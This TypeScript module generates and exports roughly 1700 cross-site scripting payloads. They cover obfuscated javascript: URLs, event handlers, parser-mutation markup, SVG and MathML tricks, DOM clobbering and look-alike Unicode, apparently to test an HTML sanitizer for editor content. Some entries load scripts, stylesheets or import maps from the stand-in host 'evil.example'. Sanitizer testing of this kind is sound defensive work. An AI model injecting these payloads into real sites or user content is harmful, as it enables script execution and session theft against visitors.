/** Function that an attack calls. */
const CALL = 'alert(1)';

/** Every way that letters of an address can be written in markup or that parsers of addresses drop again. */
const SPELLINGS: readonly ((word: string) => string)[] = [
  (word) => word,
  (word) => word.toUpperCase(),
  (word) => [...word].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  (word) => [...word].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(';') + ';',
  (word) => [...word].map((letter) => `&#0000${letter.codePointAt(0)}`).join(';') + ';',
  (word) => `${word.slice(0, 2)}\t${word.slice(2)}`,
  (word) => `${word.slice(0, 2)}&NewLine;${word.slice(2)}`,
  (word) => `${word.slice(0, 3)}&Tab;${word.slice(3)}`,
  (word) => `${word.slice(0, 4)}\r\n${word.slice(4)}`,
  (word) => `${word.slice(0, 4)}\0${word.slice(4)}`,
  (word) => `\u0001 ${word}`,
  (word) => `&#14; ${word}`,
  (word) => `\u00a0${word}`,
  (word) => `\ufeff${word}`,
  (word) => `view-source:${word}`,
  (word) => `//x/${word}`,
];
const RUNNING = ['javascript:', 'vbscript:', 'data:text/html,<script>', 'feed:javascript:'];
/** Where an address stands that is opened, fetched or run. */
const ADDRESSES: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='${address}' target=_blank>a</a>`,
  (address) => `<img src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
  (address) => `<math href="${address}"><mi>a</mi></math>`,
  (address) => `<form action="${address}"><button formaction="${address}">a</button></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<blockquote cite="${address}">a</blockquote><q cite="${address}">b</q>`,
  (address) => `<table background="${address}"><tr><td background="${address}">a</td></tr></table>`,
];
const byAddress = RUNNING.flatMap((scheme) =>
  SPELLINGS.flatMap((spell) => ADDRESSES.map((put) => put(`${spell(scheme)}${CALL}`))),
);

const TAGS = ['a', 'p', 'img', 'td', 'svg', 'details', 'custom-tag', 'span lang=de'];
/** Characters between a handler and the text before it; the last three are no blanks to every parser. */
const PARTS = [' ', '/', '\n', '\t', '\f', ' x="a>b" ', " x='\"' ", '/x=y/', '" ', ' `'];
const HANDLERS = [
  `onerror=${CALL}`,
  `ONLOAD="${CALL}"`,
  `onfocus =\n${CALL} autofocus tabindex=0`,
  `onpointerover='${CALL}'`,
  `onbeforematch=${CALL} hidden=until-found`,
  `onanimationstart=${CALL} style="animation:x 1s"`,
  `oncontentvisibilityautostatechange=${CALL} style="content-visibility:auto"`,
  `on\0click=${CALL}`,
];
const byHandler = TAGS.flatMap((tag) => PARTS.flatMap((part) => HANDLERS.map((on) => `<${tag}${part}${on}>a`)));

const PAYLOAD = `<img src=x onerror=${CALL}>`;
/** Elements whose content one parser takes for text, and another for markup. */
const RAW = ['style', 'title', 'textarea', 'noscript', 'noembed', 'noframes', 'xmp', 'plaintext', 'template', 'script'];
const FOREIGN = ['svg', 'math', 'svg><desc', 'svg><foreignObject', 'svg><title', 'math><mtext', 'math><annotation-xml'];
/** Markup that changes its meaning when it is written and read again. */
const byMutation = [
  ...RAW.flatMap((raw) => [
    `<${raw}>${PAYLOAD}`,
    `<${raw}><!--</${raw}>${PAYLOAD}-->`,
    `<${raw}><a title="</${raw}>${PAYLOAD}">`,
    `</${raw}>${PAYLOAD}`,
    ...FOREIGN.map((foreign) => `<${foreign}><${raw}><a id="</${raw}>${PAYLOAD}"></a>`),
    ...FOREIGN.map((foreign) => `<p><${foreign}></p><${raw}>&lt;/${raw}&gt;${PAYLOAD}</${raw}>`),
  ]),
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${PAYLOAD}">`,
  `<form><math><mtext></form><form><mglyph><style></math>${PAYLOAD}`,
  `<svg></p><style><a id="</style>${PAYLOAD}">`,
  `<table><caption><svg><title><table><caption></title>${PAYLOAD}`,
  `<svg><![CDATA[><image xlink:href="]]>${PAYLOAD}">`,
  `<math><annotation-xml encoding="text/html"><style>${PAYLOAD}</style></annotation-xml></math>`,
  `<noscript><p title="</noscript>${PAYLOAD}">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!>${PAYLOAD}--!>${PAYLOAD}`,
  `<?xml version="1.0"?><?x ?>${PAYLOAD}`,
  `<!doctype x [<!entity a "${PAYLOAD}">]>&a;`,
  `<p title="&lt;/p&gt;${PAYLOAD.replaceAll('<', '&lt;')}">a</p>`,
  `<a href="/x&quot;&gt;${PAYLOAD}">a</a>`,
  `<abbr title='"&gt;${PAYLOAD}'>a</abbr>`,
  `<span lang='de"><img src=x onerror=${CALL}>'>a</span>`,
  `<li><p><table><p><a href="/a"><a href="/b"><table></a>${PAYLOAD}`,
  `${'<div>'.repeat(600)}${PAYLOAD}`,
  `${'<blockquote><p>'.repeat(300)}a`,
];

const BY_ELEMENT = [
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/src=//evil.example></script>`,
  `<script\x20type=module>import("//evil.example")</script>`,
  `<SCRIPT SRC=data:,${CALL}></SCRIPT>`,
  `<svg><script href="data:,${CALL}"/></svg>`,
  `<svg><script>alert&#40;1)</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text y=20>a</text></a></svg>`,
  `<svg><set attributeName=href to=javascript:${CALL}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x">`,
  `<svg><image href=x onerror=${CALL}><handler type=text/javascript>${CALL}</handler></svg>`,
  `<svg><foreignObject><iframe srcdoc="${PAYLOAD}"></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline#javascript:${CALL}" xlink:href="javascript:${CALL}">a</maction></math>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='&#60;img src=x onerror=${CALL}&#62;' sandbox="allow-scripts"></iframe>`,
  `<img srcset="x 1x, javascript:${CALL} 2x"><img src="/media/a.png" srcset="https://evil.example/a.png 2x">`,
  `<picture><source srcset=x onerror=${CALL}><img src=/media/a.png></picture>`,
  `<video poster=javascript:${CALL} src=x onerror=${CALL}><track src=//evil.example></video>`,
  `<audio src=x onerror=${CALL}></audio>`,
  `<link rel=stylesheet href=//evil.example/a.css><link rel=import href=data:text/html,${PAYLOAD}>`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${CALL}</script>">`,
  `<meta http-equiv=content-security-policy content="default-src *">`,
  `<base href=//evil.example/ target=_blank>`,
  `<style>@import '//evil.example/a.css'; *{background:url(javascript:${CALL})}</style>`,
  `<p style="background:url(javascript:${CALL});position:fixed;inset:0">a</p>`,
  `<p style="width:expression(${CALL});behavior:url(#default#time2);-moz-binding:url(//evil.example#x)">a</p>`,
  `<p style='&#x6a;x:e\\78pression(${CALL})'>a</p>`,
  `<marquee onstart=${CALL}>a</marquee><keygen autofocus onfocus=${CALL}><isindex action=javascript:${CALL}>`,
  `<dialog open oncancel=${CALL}><form method=dialog><button>a</button></form></dialog>`,
  `<button popovertarget=x>a</button><div popover id=x onbeforetoggle=${CALL}>b</div>`,
  `<button commandfor=x command=show-modal>a</button><dialog id=x>b</dialog>`,
  `<details open ontoggle=${CALL}><summary>a</summary></details>`,
  `<select autofocus onfocus=${CALL}><option>a</select>`,
  `<template shadowrootmode=open>${PAYLOAD}</template>`,
  `<frameset onload=${CALL}><frame src=javascript:${CALL}></frameset>`,
  `<applet code=x></applet><param name=src value=javascript:${CALL}><bgsound src=javascript:${CALL}>`,
  `<portal src=javascript:${CALL}></portal><fencedframe src=//evil.example></fencedframe>`,
  `<script type=importmap>{"imports":{"react":"//evil.example"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>`,
  // Names that hide properties of document and window from scripts.
  `<form id=x name=attributes><input id=attributes><input name=innerHTML></form>`,
  `<a id=defaultView name=cookie href="clob:x">a</a><img name=getElementById><img id=currentScript>`,
  `<p id=__proto__>a</p><span id=constructor name=toString class=modal>b</span>`,
  `<object id=settings><embed name=url></object><iframe name=config srcdoc="<a id=x>"></iframe>`,
  // Characters outside of ASCII that look like others.
  `\u2028<script>\u2029${CALL}</script>`,
  `<\u017fcript>${CALL}</\u017fcript>`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<img src=x one\u0000rror=${CALL}>`,
  `<p \u2003onclick=${CALL}>a</p>`,
  `<a href="https://example.org" rel="opener" target="_blank" ping="//evil.example" download>a</a>`,
  `<a href="https://\u202eexample.org@evil.example">a</a>`,
  `<img src="/media/../api/user-logout/"><img src="\\\\evil.example\\a"><img src="/\\evil.example/a">`,
  `<img src="/media/%2e%2e/api/user-logout/"><img src="/media/x?a=b"><img src="//evil.example/media/a.png">`,
];

/** Attacks on markup that editors write, by the kinds that are known; some 1700. */
export const ATTACKS: readonly string[] = [...BY_ELEMENT, ...byMutation, ...byHandler, ...byAddress];
